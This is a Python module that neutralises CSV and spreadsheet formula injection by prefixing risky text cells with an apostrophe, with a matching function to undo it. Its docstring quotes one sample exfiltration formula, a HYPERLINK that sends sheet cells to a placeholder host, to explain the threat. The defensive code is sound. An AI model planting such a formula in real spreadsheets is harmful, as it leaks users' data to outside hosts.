"""Exported text is data, never code: the OWASP rule for CSV and spreadsheet cells.

Booking summaries and organisations come from outside calendars, device descriptions from a
file many people edit; a spreadsheet reads a cell that starts with ``=``, ``+``, ``-``,
``@``, a tab or a carriage return as a formula (``=HYPERLINK("http://x/?"&A1,"y")`` sends
the sheet's cells away when clicked). So every such text cell is written as text: in CSV
with a leading apostrophe, in XLSX as a string cell with Excel's quote prefix. Numbers are
written as numbers and never touched (a negative number stays a number).
"""

from __future__ import annotations

from typing import Final

FORMULA_START: Final = ("=", "+", "-", "@", "\t", "\r")


def inert(text: str) -> str:
    """``text`` as a CSV cell holds it: a leading apostrophe when a spreadsheet would read
    it as a formula, and also when it only looks escaped (apostrophes, then such a
    character), so that ``revived`` gives every text back exactly."""
    return "'" + text if text.lstrip("'")[:1] in FORMULA_START and text else text


def revived(cell: str) -> str:
    """The text ``inert`` wrote as ``cell``."""
    if cell.startswith("'") and cell.lstrip("'")[:1] in FORMULA_START and cell.lstrip("'"):
        return cell[1:]
    return cell
